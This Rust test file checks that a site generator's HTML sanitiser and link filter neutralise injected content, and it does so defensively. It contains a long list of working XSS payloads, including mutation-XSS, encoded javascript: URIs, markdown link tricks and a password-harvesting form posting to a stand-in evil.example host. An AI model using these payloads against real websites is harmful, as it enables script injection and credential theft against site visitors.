//! What a text may not do to the page that shows it.

#![expect(
    clippy::unwrap_used,
    reason = "a test that meets something impossible stops there"
)]

use std::sync::Arc;

use proptest::prelude::*;
use recado::publication::render::{safe_href, sanitise};
use scraper::{Html, Selector};

use crate::rendering_shop::{FRIDAY, bakery, bakery_site, file, json_ld, main_of, read, render};

/// Tags that a cleaned text may hold.
const TAGS: &[&str] = &[
    "html",
    "p",
    "br",
    "hr",
    "strong",
    "em",
    "b",
    "i",
    "u",
    "s",
    "del",
    "ins",
    "sub",
    "sup",
    "small",
    "mark",
    "code",
    "pre",
    "blockquote",
    "ul",
    "ol",
    "li",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "a",
    "img",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "abbr",
];
const ATTRIBUTES: &[&str] = &[
    "href", "title", "src", "alt", "rel", "start", "colspan", "rowspan", "width", "height",
    "loading",
];

/// Reads HTML as a browser does and names the first thing that should not be there.
fn danger(html: &str) -> Option<String> {
    let parsed = Html::parse_fragment(html);
    for element in parsed.select(&Selector::parse("*").unwrap()) {
        let name = element.value().name();
        if !TAGS.contains(&name) {
            return Some(format!("<{name}>"));
        }
        for (attribute, value) in element.value().attrs() {
            if !ATTRIBUTES.contains(&attribute) {
                return Some(format!("<{name} {attribute}>"));
            }
            if matches!(attribute, "href" | "src") && !is_safe(value) {
                return Some(format!("{attribute}={value}"));
            }
        }
    }
    None
}

/// As the URL standard reads a scheme: control characters and outer spaces do not count.
fn is_safe(address: &str) -> bool {
    let address: String = address.chars().filter(|c| !c.is_control()).collect();
    let head = address.trim().split(['/', '?', '#']).next().unwrap_or("");
    head.split_once(':').is_none_or(|(scheme, _)| {
        let scheme = scheme.to_lowercase();
        ["https", "http", "mailto", "tel"].contains(&scheme.as_str())
    })
}

/// The page of an announcement with this text. Put there past the reading, which refuses much of it
/// already.
fn page_with(body: &str) -> String {
    let plain = b"---\ntitle: Aviso\n---\nTexto\n";
    let mut content = read(bakery_site(), &[("announcements/a.md", plain)], FRIDAY);
    Arc::make_mut(&mut content.announcements[0]).texts[0].body = body.to_owned();
    main_of(&render(&content, FRIDAY), "avisos/a/index.html")
}

/// The text's own part of that page.
fn text_of(page: &str) -> &str {
    let start = page.find("<div class=\"text\">").unwrap() + "<div class=\"text\">".len();
    &page[start..page.rfind("</div>").unwrap()]
}

const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" OnErRoR=\"alert(1)\">",
    "<img src=x:x onerror=alert(1)//",
    "<img/src=`x`onerror=alert(1)>",
    "<img src=\"jav&#x0A;ascript:alert(1)\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>",
    "<div style=\"position:fixed;inset:0\">covered</div>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\" &#14;  javascript:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java&Tab;script:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"file:///etc/passwd\">x</a>",
    "<a href=\"blob:https://evil.example/1\">x</a>",
    "<a href=\"https://ok.example\" onclick=\"alert(1)\" target=_blank>x</a>",
    "<form action=https://evil.example><input name=password><button>ok</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<img srcset=\"https://evil.example/1x.png 1x\" src=x>",
    "<p id=content class=top data-recado=\"promotions/x\">x</p>",
    "<a name=links>x</a>",
    "<table background=javascript:alert(1)><tr><td>x</td></tr></table>",
    "<x-custom onclick=alert(1)>x</x-custom>",
    "<select><option><img src=x onerror=alert(1)></select>",
    "</div></main><script>alert(1)</script>",
];

const MARKDOWN_ATTACKS: &[&str] = &[
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](https://ok.example/a.png\"onerror=\"alert(1))",
    "![\"onerror=\"alert(1)](https://ok.example/a.png)",
    "[x](https://ok.example \"\\\" onmouseover=alert(1) \\\"\")",
    "```\"><script>alert(1)</script>\nx\n```",
];

#[test]
fn no_text_brings_a_script_a_handler_or_an_unknown_scheme() {
    assert!(ATTACKS.len() + MARKDOWN_ATTACKS.len() >= 40);
    for attack in ATTACKS {
        let clean = sanitise(attack);
        assert_eq!(danger(&clean), None, "{attack}\n{clean}");
        assert_eq!(sanitise(&clean), clean, "{attack}");
    }
    for attack in ATTACKS.iter().chain(MARKDOWN_ATTACKS) {
        let page = page_with(attack);
        let text = text_of(&page);
        assert_eq!(danger(text), None, "{attack}\n{text}");
    }
}

/// Every word that a person writes, on every page that shows it.
#[test]
fn no_title_price_note_or_link_brings_a_script_or_a_handler() {
    let data = "script[type='application/ld+json'], script[type='application/json']";
    let allowed = Selector::parse(&format!("{data}, script[src^='/assets/open-']")).unwrap();
    let script = Selector::parse("script, iframe, object, embed, base, style, form").unwrap();
    let everything = Selector::parse("*").unwrap();
    for attack in ATTACKS
        .iter()
        .chain(&["\" onmouseover=\"alert(1)", "' autofocus onfocus='x"])
    {
        let mut content = bakery();
        let offer = Arc::make_mut(&mut content.promotions[0]);
        let text = &mut offer.texts[0];
        let words = [
            &mut text.image_alt,
            &mut text.price,
            &mut text.was,
            &mut text.link,
            &mut text.terms,
        ];
        for word in words {
            *word = Some((*attack).to_owned());
        }
        text.title = (*attack).to_owned();
        offer.code = Some((*attack).to_owned());
        Arc::make_mut(&mut content.announcements[0]).texts[0].title = (*attack).to_owned();
        content.hours.as_mut().unwrap().special[0].notes[0].1 = (*attack).to_owned();
        Arc::make_mut(&mut content.pages[0]).texts[0].title = (*attack).to_owned();
        let desired = render(&content, FRIDAY);
        for path in desired.files.keys().filter(|path| path.ends_with(".html")) {
            let page = Html::parse_document(&file(&desired, path));
            let scripts = page.select(&script).count();
            assert_eq!(scripts, page.select(&allowed).count(), "{path}: {attack}");
            for element in page.select(&everything) {
                let mut handlers = element
                    .value()
                    .attrs()
                    .filter(|(name, _)| name.starts_with("on"));
                assert_eq!(handlers.next(), None, "{path}: {attack}");
                let href = element.value().attr("href").unwrap_or("");
                assert!(is_safe(href), "{path}: {href}");
            }
        }
    }
}

#[test]
fn text_keeps_its_structure() {
    let page = page_with(
        "# Um\n\n**forte** ~~fora~~ <b>html</b>\n\n1. a\n2. b\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n\
         [fora](https://x.example) [dentro](/loja) [solto](//y.example)",
    );
    insta::assert_snapshot!(text_of(&page), @r#"
    <h2>Um</h2>
    <p><strong>forte</strong> <del>fora</del> <b>html</b></p>
    <ol>
    <li>a</li>
    <li>b</li>
    </ol>
    <table><thead><tr><th>a</th><th>b</th></tr></thead><tbody>
    <tr><td>1</td><td>2</td></tr>
    </tbody></table>
    <p><a href="https://x.example" rel="noopener">fora</a> <a href="/loja" rel="noopener">dentro</a> <a href="https://y.example" rel="noopener">solto</a></p>
    "#);
}

#[test]
fn text_nested_past_reason_is_shown_as_typed_and_at_once() {
    for deep in ["<div>", "<b><p>", "<blockquote>", "<svg>", "<a><p>"] {
        let clean = sanitise(&deep.repeat(5_000));
        assert_eq!(danger(&clean), None);
        assert!(clean.starts_with("<p>&lt;"), "{deep}");
    }
    let quotes = page_with(&">".repeat(5_000));
    assert_eq!(danger(text_of(&quotes)), None);
    // What people write is far from it, and elements that end by themselves do not count.
    let list = sanitise(&format!("<ul>{}</ul>", "<li>um<p>dois<br>".repeat(2_000)));
    assert_eq!(list.matches("<li>").count(), 2_000);
}

#[test]
fn pictures_from_elsewhere_only_over_https_and_files_only_where_they_exist() {
    let page = page_with("![web](https://x.example/a.png) ![inseguro](http://x.example/a.png)");
    assert!(page.contains("https://x.example/a.png"));
    assert!(!page.contains("http://x.example") && !page.contains("inseguro"));
    assert!(!page_with("<img src=\"../../segredo.png\">").contains("segredo"));
}

#[test]
fn content_is_never_a_template() {
    let body = "---\ntitle: \"{{ 7 * 7 }} <script>alert(1)</script>\"\nends: 2026-12-01\nterms: \"{% for a in b %}\"\nprice: R$ 1 </script>\n---\n{{ 7 * 7 }} {% include \"pages/home.html\" %}\n";
    let content = read(
        bakery_site(),
        &[("promotions/x.md", body.as_bytes())],
        FRIDAY,
    );
    let desired = render(&content, FRIDAY);
    for path in ["index.html", "promocoes/x/index.html", "feed.xml"] {
        let page = file(&desired, path);
        assert!(page.contains("{{ 7 * 7 }}"), "{path}");
        assert!(!page.contains("<script>alert"), "{path}");
    }
    let json = &json_ld(&desired, "promocoes/x/index.html")[0];
    assert_eq!(json["name"], "{{ 7 * 7 }} <script>alert(1)</script>");
}

#[test]
fn links_go_to_known_schemes_or_stay_on_the_site() {
    for good in [
        "/loja",
        "#mapa",
        "?p=2",
        "loja/x",
        "https://x.example/a:b",
        "mailto:oi@x.example",
        "tel:+55",
        "HTTP://x.example",
    ] {
        assert_eq!(safe_href(good).as_deref(), Some(good));
    }
    for bad in [
        "javascript:alert(1)",
        "JavaScript:x",
        "\u{1}javascript:x",
        "java\nscript:x",
        "data:x",
        "",
        " ",
        "ftp://x",
        "\\\\evil.example",
        "https://x.example/\u{202e}gpj",
        "x:y",
    ] {
        assert_eq!(safe_href(bad), None, "{bad:?}");
    }
    assert_eq!(
        safe_href("//x.example").as_deref(),
        Some("https://x.example")
    );
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    #[test]
    fn cleaning_twice_is_cleaning_once(html in pieces()) {
        let once = sanitise(&html);
        prop_assert_eq!(danger(&once), None, "{}", once);
        prop_assert_eq!(sanitise(&once), once);
    }

    #[test]
    fn an_accepted_address_is_safe(address in "[ -~\t\n\u{200b}]{0,20}(script:|:|//)?[ -~]{0,10}") {
        if let Some(address) = safe_href(&address) {
            prop_assert!(is_safe(&address), "{}", address);
        }
    }
}

/// HTML glued together from what parsers disagree about.
fn pieces() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        proptest::sample::select(vec![
            "<p>",
            "</p>",
            "<b>",
            "</b>",
            "<a href=x>",
            "<a href='javascript:x'>",
            "</a>",
            "<table>",
            "</table>",
            "<tr>",
            "<td>",
            "<pre>\n\n",
            "</pre>",
            "<li>",
            "<ul>",
            "<h2>",
            "<svg>",
            "</svg>",
            "<math>",
            "<mtext>",
            "<style>",
            "</style>",
            "<script>",
            "</script>",
            "<!--",
            "-->",
            "<img src=x onerror=y>",
            "<template>",
            "<noscript>",
            "<textarea>",
            "<select>",
            "&lt;script&gt;",
            "&#0;",
            "\"",
            "'",
            "<",
            ">",
            "&",
            "<form>",
            "</form>",
            "<br>",
            "<i>",
            "<code>",
            "<blockquote>",
            "<title>",
            "<mglyph>",
            "<desc>",
            "<foreignObject>",
            "</br>",
        ])
        .prop_map(str::to_owned),
        "[a-z ]{0,6}",
    ];
    proptest::collection::vec(piece, 0..24).prop_map(|pieces| pieces.concat())
}
